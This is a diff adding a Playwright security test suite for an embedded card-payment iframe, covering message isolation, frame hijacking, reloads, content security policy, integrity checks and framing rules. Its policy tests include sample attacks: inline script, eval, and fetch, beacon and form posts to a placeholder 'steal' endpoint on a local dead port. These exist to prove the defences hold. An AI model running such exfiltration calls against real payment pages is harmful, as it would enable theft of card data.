@@ -1,0 +1,390 @@
+/** The walls between page and frame, attacked: openers, siblings, hijacks, replays, policies, changed bytes. */
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import type { Page } from "@playwright/test";
+import { expect, test } from "./fixtures.ts";
+import { merchantPage, paneTag } from "./pages.ts";
+import { goodCard, openPane } from "./pane-object.ts";
+
+/** Notes every postMessage of the page and the origin it is addressed to, before any script runs. */
+async function spyOnTargets(page: Page): Promise<() => string[]> {
+  const targets: string[] = [];
+  await page.exposeFunction("noteTarget", (target: string) => targets.push(target));
+  await page.addInitScript(() => {
+    const post = window.postMessage;
+    const note = (window as unknown as { noteTarget(target: string): void }).noteTarget;
+    // Inside the frame, `parent` is of another origin and cannot be patched: the frame is asked about in a unit test.
+    window.postMessage = function (this: Window, ...args: unknown[]) {
+      note(String(args[1]));
+      return Reflect.apply(post, this, args);
+    } as typeof window.postMessage;
+  });
+  return () => targets;
+}
+
+test("nothing is posted to just anyone", async ({ page, stack }) => {
+  const targets = await spyOnTargets(page);
+  const pane = await openPane(page, stack, merchantPage(stack, paneTag()));
+  await pane.type(goodCard);
+  await pane.tokenize();
+  expect(targets()).not.toContain("*");
+});
+
+test("an opener that posts into the frame is not heard", async ({ context, stack }) => {
+  const opener = await context.newPage();
+  await opener.goto(stack.site.serve("<!doctype html><title>Opener</title>"));
+  const address = stack.site.serve(merchantPage(stack, paneTag()));
+  const [merchant] = await Promise.all([
+    context.waitForEvent("page"),
+    opener.evaluate((url) => {
+      (window as unknown as { opened: Window | null }).opened = window.open(url);
+    }, address),
+  ]);
+  await merchant.waitForFunction(
+    () => (document.querySelector("card-pane") as unknown as { status: string })?.status === "ready",
+  );
+  await opener.evaluate((origin) => {
+    const { opened } = window as unknown as { opened: Window };
+    const frame = opened[0];
+    const channel = new MessageChannel();
+    for (const type of ["cardpane:open", "close", "clear", "tokenize"]) {
+      frame?.postMessage(
+        { type, version: 1, frameNonce: "0".repeat(32), pageNonce: "0".repeat(32), options: {} },
+        origin,
+        [...(type === "cardpane:open" ? [channel.port2] : [])],
+      );
+    }
+  }, stack.pane);
+  await merchant.waitForTimeout(200);
+  expect(
+    await merchant.evaluate(
+      () => (document.querySelector("card-pane") as unknown as { status: string }).status,
+    ),
+  ).toBe("ready");
+});
+
+test("a second handshake from the page closes the frame, and the pane starts afresh", async ({
+  page,
+  stack,
+}) => {
+  const pane = await openPane(page, stack, merchantPage(stack, paneTag()));
+  await pane.type({ number: "4242" });
+  await page.evaluate((origin) => {
+    const frame = document.querySelector("iframe");
+    frame?.contentWindow?.postMessage(
+      {
+        type: "cardpane:open",
+        version: 1,
+        frameNonce: "0".repeat(32),
+        pageNonce: "0".repeat(32),
+        options: {},
+      },
+      origin,
+      [new MessageChannel().port2],
+    );
+  }, stack.pane);
+  // Whatever the page does next, what was typed is gone.
+  await expect
+    .poll(async () =>
+      pane
+        .field("number")
+        .inputValue({ timeout: 500 })
+        .catch(() => ""),
+    )
+    .toBe("");
+});
+
+test("a frame that is navigated away is reported and gets nothing", async ({ page, stack }) => {
+  await openPane(page, stack, merchantPage(stack, paneTag()));
+  const evil = stack.site.serve(
+    `<!doctype html><title>Evil</title><script>
+      window.got = [];
+      addEventListener("message", (event) => got.push(event.data));
+      parent.postMessage({ type: "cardpane:hello", version: 1, frameNonce: "0".repeat(32) }, "${stack.site.url}");
+    </script>`,
+  );
+  const code = page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        document.querySelector("card-pane")?.addEventListener("loaderror", (event) => {
+          resolve((event as CustomEvent<{ code: string }>).detail.code);
+        });
+      }),
+  );
+  await page.evaluate((url) => {
+    const frame = document.querySelector("iframe")?.contentWindow;
+    if (frame) frame.location.href = url;
+  }, evil);
+  expect(await code).toBe("frame_hijacked");
+});
+
+test("a frame that is reloaded starts afresh, and a running tokenize is told", async ({ page, stack }) => {
+  const pane = await openPane(page, stack, merchantPage(stack, '<card-pane environment="slow"></card-pane>'));
+  await pane.type(goodCard);
+  const outcome = pane.tokenize();
+  const ready = page.evaluate(
+    () =>
+      new Promise<void>((resolve) =>
+        document.querySelector("card-pane")?.addEventListener("ready", () => resolve(), { once: true }),
+      ),
+  );
+  await page.waitForTimeout(100);
+  await pane.frame().evaluate(() => location.reload());
+  expect((await outcome).error?.code).toBe("frame_gone");
+  await ready;
+  await expect(pane.field("number")).toHaveValue("");
+});
+
+test.describe("inside the frame, the policy stops", () => {
+  test.beforeEach(
+    ({ watch }) =>
+      void watch.expectedErrors.push(
+        /Content Security Policy|Content-Security-Policy|Trusted|violates|Refused/i,
+      ),
+  );
+
+  const attacks: readonly [string, string, () => Promise<boolean> | boolean][] = [
+    [
+      "an inline script",
+      "script-src",
+      () => {
+        const script = document.createElement("script");
+        try {
+          script.textContent = "window.pwned = true";
+        } catch {
+          return false;
+        }
+        document.body.append(script);
+        return "pwned" in window;
+      },
+    ],
+    [
+      "eval",
+      "script-src",
+      () => {
+        try {
+          // biome-ignore lint/security/noGlobalEval: that it cannot run is what is tested
+          return Boolean(window.eval("1 + 1"));
+        } catch {
+          return false;
+        }
+      },
+    ],
+    [
+      "a foreign script",
+      "script-src",
+      () =>
+        new Promise((resolve) => {
+          const script = document.createElement("script");
+          script.onload = () => resolve(true);
+          script.onerror = () => resolve(false);
+          try {
+            script.src = "http://127.0.0.1:9/x.js";
+          } catch {
+            return resolve(false);
+          }
+          document.body.append(script);
+        }),
+    ],
+    [
+      "an image",
+      "img-src",
+      () =>
+        new Promise((resolve) => {
+          const image = new Image();
+          image.onload = () => resolve(true);
+          image.onerror = () => resolve(false);
+          image.src = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";
+        }),
+    ],
+    [
+      "a font",
+      "font-src",
+      () =>
+        new FontFace("x", "url(data:font/woff2;base64,d09GMg==)").load().then(
+          () => true,
+          () => false,
+        ),
+    ],
+    [
+      "innerHTML",
+      "trusted-types",
+      () => {
+        try {
+          document.body.innerHTML = "<b>x</b>";
+          return true;
+        } catch {
+          return false;
+        }
+      },
+    ],
+    [
+      "a foreign fetch",
+      "connect-src",
+      () =>
+        fetch("http://127.0.0.1:9/steal", { mode: "no-cors" }).then(
+          () => true,
+          () => false,
+        ),
+    ],
+    [
+      "a beacon",
+      "connect-src",
+      () =>
+        new Promise((resolve) => {
+          document.addEventListener("securitypolicyviolation", () => resolve(false), { once: true });
+          navigator.sendBeacon("http://127.0.0.1:9/steal", "x");
+          setTimeout(() => resolve(true), 500);
+        }),
+    ],
+    [
+      "a style attribute",
+      "style-src",
+      () => {
+        const element = document.createElement("p");
+        element.setAttribute("style", "color: rgb(1, 2, 3)");
+        document.body.append(element);
+        const color = getComputedStyle(element).color;
+        element.remove();
+        return color === "rgb(1, 2, 3)";
+      },
+    ],
+    [
+      "a form post",
+      "form-action",
+      () =>
+        new Promise((resolve) => {
+          const form = document.createElement("form");
+          form.method = "post";
+          form.action = "http://127.0.0.1:9/steal";
+          document.body.append(form);
+          document.addEventListener("securitypolicyviolation", () => resolve(false), { once: true });
+          form.submit();
+          setTimeout(() => resolve(true), 500);
+        }),
+    ],
+  ];
+  for (const [what, directive, attack] of attacks) {
+    test(`${what} (${directive})`, async ({ page, stack }) => {
+      const pane = await openPane(page, stack, merchantPage(stack, paneTag()));
+      expect(await pane.frame().evaluate(attack)).toBe(false);
+    });
+  }
+});
+
+test("one changed byte of the frame's script stops it", async ({ page, stack, watch }) => {
+  watch.expectedErrors.push(/Content Security Policy|violates/i);
+  await page.route(/\/frame\?/, async (route) => {
+    const response = await route.fetch();
+    const body = await response.text();
+    await route.fulfill({ response, body: body.replace(/<script>(?!\s*<)/, "<script>;") });
+  });
+  await page.goto(stack.site.serve(merchantPage(stack, paneTag())));
+  await expect
+    .poll(
+      () =>
+        page.evaluate(() => (document.querySelector("card-pane") as unknown as { status: string }).status),
+      { timeout: 10_000 },
+    )
+    .toBe("failed");
+});
+
+test("one changed byte of the page's script stops it", async ({ page, stack, watch }) => {
+  watch.expectedErrors.push(/integrity/i);
+  await page.route(/cardpane\.js/, async (route) => {
+    const response = await route.fetch();
+    await route.fulfill({ response, body: `${await response.text()} ` });
+  });
+  await page.goto(stack.site.serve(merchantPage(stack, paneTag())));
+  expect(await page.evaluate(() => "Cardpane" in window)).toBe(false);
+});
+
+test.describe("a merchant's page", () => {
+  const tokenizes = async (
+    page: Page,
+    stack: Parameters<typeof openPane>[1],
+    headers: Record<string, string>,
+  ) => {
+    const pane = await openPane(page, stack, merchantPage(stack, paneTag()), headers);
+    await pane.type(goodCard);
+    expect((await pane.tokenize()).token).toBeTruthy();
+  };
+
+  test("under a strict policy needs script-src and frame-src, nothing else", async ({ page, stack }) => {
+    await tokenizes(page, stack, {
+      "Content-Security-Policy": [
+        "default-src 'none'",
+        `script-src ${stack.pane}`,
+        `frame-src ${stack.pane}`,
+        "require-trusted-types-for 'script'",
+        "trusted-types 'none'",
+        "base-uri 'none'",
+        "form-action 'none'",
+      ].join("; "),
+    });
+  });
+
+  for (const policy of ["require-corp", "credentialless"]) {
+    test(`that is cross-origin isolated (${policy}) loads it`, async ({ page, stack }) => {
+      await tokenizes(page, stack, {
+        "Cross-Origin-Embedder-Policy": policy,
+        "Cross-Origin-Opener-Policy": "same-origin",
+      });
+      expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
+    });
+  }
+
+  test("with Referrer-Policy: no-referrer loads it", async ({ page, stack }) => {
+    await tokenizes(page, stack, { "Referrer-Policy": "no-referrer" });
+  });
+});
+
+test("a page that the host does not list cannot embed the pane", async ({ page, stack, watch }) => {
+  watch.expectedErrors.push(/frame-ancestors|Framing|Content Security Policy|refused/i);
+  // The same host on another port is another origin.
+  const server = createServer((_, response) => {
+    response.writeHead(200, { "Content-Type": "text/html" }).end(merchantPage(stack, paneTag()));
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const url = `http://localhost:${(server.address() as AddressInfo).port}/`;
+  await page.route(url, (route) => route.continue());
+  try {
+    await page.goto(url);
+    await expect
+      .poll(
+        () =>
+          page.evaluate(
+            () =>
+              (document.querySelector("card-pane") as unknown as { error: { code: string } | null }).error
+                ?.code,
+          ),
+        { timeout: 10_000 },
+      )
+      .toBe("load_blocked");
+  } finally {
+    server.closeAllConnections();
+    server.close();
+  }
+});
+
+test("two panes on a page do not hear each other", async ({ page, stack }) => {
+  await page.goto(stack.site.serve(merchantPage(stack, paneTag('id="one"') + paneTag('id="two"'))));
+  const { PaneObject } = await import("./pane-object.ts");
+  const one = await new PaneObject(page, page.locator("#one")).ready();
+  const two = await new PaneObject(page, page.locator("#two")).ready();
+  await one.type(goodCard);
+  await expect(two.field("number")).toHaveValue("");
+  expect((await two.snapshot()).empty).toBe(true);
+  expect((await two.tokenize()).error?.code).toBe("form_invalid");
+  expect((await one.tokenize()).token).toBeTruthy();
+});
+
+test("after going back, nothing that was typed is there", async ({ page, stack }) => {
+  const pane = await openPane(page, stack, merchantPage(stack, paneTag()));
+  await pane.type(goodCard);
+  await page.goto(stack.site.serve("<!doctype html><title>Elsewhere</title>"));
+  await page.goBack();
+  await pane.ready();
+  await expect(pane.field("number")).toHaveValue("");
+  await expect(pane.field("cvv")).toHaveValue("");
+});
